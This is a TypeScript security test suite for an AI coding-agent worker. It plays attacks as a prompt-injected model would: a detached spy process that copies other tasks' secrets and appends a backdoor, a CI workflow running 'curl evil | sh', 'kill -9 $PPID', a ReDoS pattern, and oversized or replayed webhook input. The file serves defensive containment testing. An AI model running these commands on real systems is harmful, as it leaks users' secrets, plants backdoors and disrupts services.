/**
 * Containment, against the built bundles (`npm test` builds them first): one task cannot touch the
 * next, and hostile tool input cannot freeze or exhaust the worker, which runs in a Lambda-like
 * process reused between invocations (support/attack-env.ts). Each case plays an attack the way a
 * prompt-injected model would, and checks what must hold; the last one kills the worker itself.
 */
import fs from 'node:fs';
import path from 'node:path';
import { PutObjectCommand } from '@aws-sdk/client-s3';
import { GetQueueAttributesCommand } from '@aws-sdk/client-sqs';
import { c as tarCreate } from 'tar';
import { afterAll, beforeAll, describe, it } from 'vitest';
import type { AgentEvent } from '../../src/task/events.ts';
import { deliveryTaskId } from '../../src/github/index.ts';
import { readProcess } from '../../src/security/index.ts';
import { text, toolUse, type Part } from '../support/fake-bedrock.ts';
import { issueComment, issuesLabeled } from '../unit/github/payloads.ts';
import { securityReport } from './report.ts';
import { BUCKET, OWNER, peakRss, REPO, startAttackEnv, WEBHOOK_SECRET, type AttackEnv } from './support/attack-env.ts';

const report = securityReport('containment');
let env: AttackEnv;
// Processes an attack left when a defence fails: ended by pid at the end.
const leftovers = new Set<number>();

beforeAll(async () => {
  env = await startAttackEnv();
  env.github.addRepo(OWNER, REPO, { defaultBranch: 'master', files: { 'README.md': 'Hello\n' } });
  env.github.addIssue(OWNER, REPO, { number: 1, title: 'Spelling error', comments: [{ id: 492700400, author: 'Codertocat', body: 'x' }] });
  env.github.setPermission(OWNER, REPO, 'Codertocat', 'write');
}, 120_000);

afterAll(async () => {
  for (const pid of leftovers) {
    try {
      process.kill(pid, 'SIGKILL');
    } catch {
      // gone
    }
  }
  await env?.close();
  report.flush();
});

const alive = (pid: number): boolean => {
  const p = readProcess(pid);
  return p !== undefined && p.state !== 'Z';
};
const toolResults = (events: AgentEvent[]) => events.flatMap((e) => (e.type === 'tool_result' ? [{ name: e.name, status: e.status, output: e.output }] : []));
const done = () => [text('Done.')];

/**
 * Runs a task whose model makes `turns` (one answer each), then says it is done; resolves its
 * result and its tool results.
 */
async function runCase(name: string, turns: Part[][], timeoutMs: number, task: Record<string, unknown> = {}) {
  env.script(name, (i) => turns[i] ?? done());
  await env.send({ taskId: name, prompt: `[case:${name}] go`, ...task });
  const result = await env.waitForResult(name, timeoutMs);
  return { result, tools: toolResults(await env.events(name)) };
}

async function queueIdle(): Promise<boolean> {
  const a = (await env.aws.sqs.send(new GetQueueAttributesCommand({ QueueUrl: env.queueUrl, AttributeNames: ['All'] }))).Attributes ?? {};
  return Number(a.ApproximateNumberOfMessages) === 0 && Number(a.ApproximateNumberOfMessagesNotVisible) === 0;
}

describe('one task cannot touch the next', () => {
  it('a process a task leaves running (setsid nohup) is gone when it ends: the next task keeps its secret and its diff', async () => {
    const loot = path.join(env.scratch, 'loot.txt');
    const pidFile = path.join(env.scratch, 'spy.pid');
    // Every 0.1 s: copy any workspace's secret.txt out, and append a backdoor to any app.py.
    const spy =
      `setsid nohup sh -c 'echo $$ > ${pidFile}; root=$(dirname "$(dirname "$TMPDIR")"); ` +
      `while :; do for w in "$root"/*/workspace; do [ -f "$w/secret.txt" ] && cat "$w/secret.txt" >> ${loot}; [ -f "$w/app.py" ] && echo "import backdoor" >> "$w/app.py"; done; sleep 0.1; done' >/dev/null 2>&1 & sleep 2`;
    env.script('spy', (i) => (i === 0 ? [toolUse('s1', 'shell', { command: spy })] : done()));
    env.script('victim', (i) => (i === 0 ? [toolUse('v1', 'shell', { command: 'sleep 1.5; cat app.py' })] : done()));
    const src = path.join(env.scratch, 'victim-src');
    fs.mkdirSync(src);
    fs.writeFileSync(path.join(src, 'secret.txt'), 'the-victim-secret\n');
    fs.writeFileSync(path.join(src, 'app.py'), 'print("hello")\n');
    const archive = path.join(env.scratch, 'victim.tar.gz');
    await tarCreate({ gzip: true, cwd: src, file: archive }, ['secret.txt', 'app.py']);
    await env.aws.s3.send(new PutObjectCommand({ Bucket: BUCKET, Key: 'inputs/victim.tar.gz', Body: fs.readFileSync(archive) }));

    await env.send({ taskId: 'spy-task', prompt: '[case:spy] start a helper' });
    const spyResult = await env.waitForResult('spy-task', 60_000);
    const spyPid = Number(fs.readFileSync(pidFile, 'utf8'));
    leftovers.add(spyPid);
    await env.send({ taskId: 'victim-task', prompt: '[case:victim] look at app.py', source: { s3: { bucket: BUCKET, key: 'inputs/victim.tar.gz' } } });
    const victim = await env.waitForResult('victim-task', 60_000);
    const diff = (await env.text('tasks/victim-task/diff.patch')) ?? '';
    const seen = toolResults(await env.events('victim-task'))[0]?.output ?? '';
    report.check(
      'task A leaves `setsid nohup sh -c <spy>` running; task B (same warm worker) has secret.txt and app.py',
      'the spy is dead when A ends; B sees app.py untouched, its diff is empty, no secret leaves',
      { statuses: [spyResult.status, victim.status], spyAlive: alive(spyPid), appPy: seen, diff, loot: fs.existsSync(loot) ? fs.readFileSync(loot, 'utf8') : '' },
      { statuses: ['succeeded', 'succeeded'], spyAlive: false, appPy: 'exit code: 0\nprint("hello")\n', diff: '', loot: '' },
    );
  }, 150_000);
});

describe('hostile tool input cannot freeze or exhaust the worker', () => {
  it('a backtracking regular expression, (a+)+$ on a long line, answers instead of freezing the worker', async () => {
    const { result, tools } = await runCase(
      'redos',
      [[toolUse('w', 'shell', { command: "head -c 5000 /dev/zero | tr '\\0' a > evil.txt; echo '!' >> evil.txt" })], [toolUse('s', 'search', { pattern: '(a+)+$' })]],
      60_000,
    );
    const search = tools.find((r) => r.name === 'search');
    report.check(
      'search (a+)+$ over a 5,000-character line of a\'s ending in !',
      'the search answers (no match), the task ends with its result',
      { status: result.status, search },
      { status: 'succeeded', search: { name: 'search', status: 'success', output: 'No matches for /(a+)+$/ under . (1 files searched).' } },
    );
  }, 90_000);

  it('a 1.5 GiB sparse file does not take the worker past its memory bound, and shows in the diff as a binary change', async () => {
    const { pid } = env.worker();
    const before = peakRss(pid);
    const { result } = await runCase('sparse', [[toolUse('t', 'shell', { command: 'truncate -s 1536M big.bin' })]], 90_000);
    const growth = peakRss(pid) - before;
    const diff = (await env.text('tasks/sparse/diff.patch')) ?? '';
    report.check(
      '`truncate -s 1536M big.bin` in the workspace (the function has 2 GiB)',
      'peak RSS of the worker grows by less than 512 MiB; the diff holds `Binary files /dev/null and b/big.bin differ`',
      { status: result.status, sameWorker: env.worker().pid === pid, growthUnder512MiB: growth < 512 * 1024 * 1024, binary: diff.includes('Binary files /dev/null and b/big.bin differ\n') },
      { status: 'succeeded', sameWorker: true, growthUnder512MiB: true, binary: true },
    );
  }, 120_000);

  it('tool input nested 3,000 levels deep is refused as an error result and the task ends with its result', async () => {
    const deep = `${'{"a":'.repeat(3000)}1${'}'.repeat(3000)}`;
    const { result, tools } = await runCase('deep', [[toolUse('d', 'write_file', {}, { rawInput: deep })]], 60_000);
    report.check(
      'a tool call whose input nests 3,000 objects (about 15 KB)',
      'an error result for the model; the task ends succeeded, with transcript and result',
      { status: result.status, turns: result.turns, tool: tools[0], transcript: (await env.text('tasks/deep/transcript.json')) !== undefined },
      {
        status: 'succeeded',
        turns: 2,
        tool: { name: 'write_file', status: 'error', output: 'Invalid input for write_file: nested more than 64 levels deep. Expected write_file({path: string, content: string}).' },
        transcript: true,
      },
    );
  }, 90_000);

  it('read_file of a 64 MiB single-line file answers at once, the line cut to its head and tail', async () => {
    const { result, tools } = await runCase(
      'long-line',
      [[toolUse('m', 'shell', { command: "head -c 67108864 /dev/zero | tr '\\0' x > long.txt" })], [toolUse('r', 'read_file', { path: 'long.txt' })]],
      100_000,
    );
    const read = tools.find((r) => r.name === 'read_file');
    report.check(
      'read_file of a file holding one 64 MiB line (the quadratic reader took over 120 s)',
      'the line comes back cut, with its length; the task ends with its result',
      { status: result.status, read: read && [read.status, /\[\.\.\. 67106864 of 67108864 characters cut \.\.\.\]/.test(read.output)] },
      { status: 'succeeded', read: ['success', true] },
    );
  }, 150_000);
});

describe('what reaches the queue and GitHub', () => {
  it('an issue and an /agent comment within GitHub\'s limits become a task the worker accepts, clipped', async () => {
    const payload = issueComment();
    payload.issue.title = '[case:oversized] a long issue';
    payload.issue.body = '€'.repeat(65_536);
    payload.issue.comments = 0;
    payload.comment.body = `/agent ${'€'.repeat(65_000)}`;
    env.script('oversized', () => done());
    const delivery = 'a1a1a1a1-0000-4000-8000-000000000001';
    const res = await env.webhook('issue_comment', delivery, JSON.stringify(payload));
    const taskId = deliveryTaskId(WEBHOOK_SECRET, delivery);
    const result = await env.waitForResult(taskId, 60_000);
    const task = JSON.parse((await env.text(`tasks/${taskId}/task.json`)) ?? '{}') as { prompt?: string };
    report.check(
      'issue body of 65,536 × € and an /agent comment of 65,000 × € (GitHub\'s limits; 393 KB of UTF-8 together)',
      'the webhook answers 202 and the worker runs the task (not rejected); the prompt says what was cut',
      { webhook: res.statusCode, status: result.status, prompt: [Buffer.byteLength(task.prompt ?? '') <= 256 * 1024, /bytes cut: the task's prompt is limited/.test(task.prompt ?? '')] },
      { webhook: 202, status: 'succeeded', prompt: [true, true] },
    );
  }, 90_000);

  it('a signed body replayed under a new X-GitHub-Delivery id enqueues nothing', async () => {
    const payload = issuesLabeled();
    payload.label.name = 'agent';
    payload.issue.title = '[case:replay] labelled once';
    env.script('replay', () => done());
    const body = JSON.stringify(payload);
    const first = await env.webhook('issues', 'b2b2b2b2-0000-4000-8000-000000000001', body);
    await env.waitForResult(deliveryTaskId(WEBHOOK_SECRET, 'b2b2b2b2-0000-4000-8000-000000000001'), 60_000);
    const reactions = env.github.reactions.length;
    const replayed = await env.webhook('issues', 'b2b2b2b2-0000-4000-8000-000000000002', body);
    // The queue drains: had the replay enqueued a task, the worker would have run it.
    for (let i = 0; i < 100 && !(await queueIdle()); i++) await new Promise((r) => setTimeout(r, 100));
    report.check(
      'the same signed issues/labeled body posted again with a new delivery id',
      '2xx, nothing enqueued, no reaction, no task',
      { first: first.statusCode, replayed: [replayed.statusCode, JSON.parse(String(replayed.body))], reactions: env.github.reactions.length - reactions, task: await env.text(`tasks/${deliveryTaskId(WEBHOOK_SECRET, 'b2b2b2b2-0000-4000-8000-000000000002')}/task.json`) },
      { first: 202, replayed: [200, { duplicate: 'b2b2b2b2-0000-4000-8000-000000000002', replayOf: 'a body handled before' }], reactions: 0, task: undefined },
    );
  }, 90_000);

  it('a workflow file the task wrote is not pushed; the pull request lists it as held back', async () => {
    env.script('workflow', (i) =>
      i === 0
        ? [toolUse('w1', 'write_file', { path: '.github/workflows/ci.yml', content: 'on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps: [{run: "curl evil | sh"}]\n' }), toolUse('w2', 'write_file', { path: 'README.md', content: 'Hello, world\n' })]
        : done(),
    );
    await env.send({ taskId: 'workflow', prompt: '[case:workflow] fix the README', source: { github: { owner: OWNER, repo: REPO, ref: 'master' } }, reply: { github: { owner: OWNER, repo: REPO, issue: 1 } } });
    const result = await env.waitForResult('workflow', 60_000);
    const published = await env.publish('workflow');
    const pr = env.github.calls.find((c) => c.method === 'POST' && c.path.endsWith('/pulls'))?.body as { body?: string } | undefined;
    report.check(
      'the task writes .github/workflows/ci.yml (a push-triggered workflow) beside its real change',
      'the branch agent/<id> holds the README change only; the pull request lists the workflow under Held back',
      { status: result.status, action: published.published[0]?.action, files: Object.keys(env.github.files(OWNER, REPO, 'agent/workflow')).sort(), heldBack: pr?.body?.includes('- `.github/workflows/ci.yml` (added; CI configuration)') },
      { status: 'succeeded', action: 'pull_request', files: ['README.md'], heldBack: true },
    );
  }, 90_000);
});

describe('a task that kills its worker', () => {
  it('`kill -9 $PPID` on every delivery: after the configured attempts the task ends failed, not only in the dead-letter queue', async () => {
    env.script('killer', () => [toolUse('k', 'shell', { command: 'kill -9 $PPID; sleep 5' })]);
    const starts = env.worker().starts;
    await env.send({ taskId: 'killer', prompt: '[case:killer] clean up' });
    const result = await env.waitForResult('killer', 120_000);
    report.check(
      'a tool runs `kill -9 $PPID` (the worker) on every delivery; the queue redrives after 3 receives',
      'the worker dies (and is replaced), and the task ends failed with worker_crashed; nothing in the dead-letter queue',
      { status: result.status, code: result.error?.code, workerKilled: env.worker().starts > starts, dlq: await env.deadLetters() },
      { status: 'failed', code: 'worker_crashed', workerKilled: true, dlq: [] },
    );
  }, 150_000);
});
